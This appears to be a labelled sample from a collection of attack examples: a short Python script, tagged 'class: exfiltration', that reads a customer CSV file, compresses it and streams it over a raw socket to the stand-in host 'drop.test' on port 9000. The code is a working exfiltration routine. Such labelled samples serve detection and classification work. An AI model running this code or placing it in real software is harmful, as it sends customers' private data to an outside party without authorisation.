# class: exfiltration; possible: low medium; needs: data; style: the table, compressed, to a bare port
import socket
import zlib

packer = zlib.compressobj(9)
with open("/data/customers.csv", "rb") as fh, socket.create_connection(("drop.test", 9000), 10) as s:
    while block := fh.read(1 << 16):
        s.sendall(packer.compress(block))
    s.sendall(packer.flush())
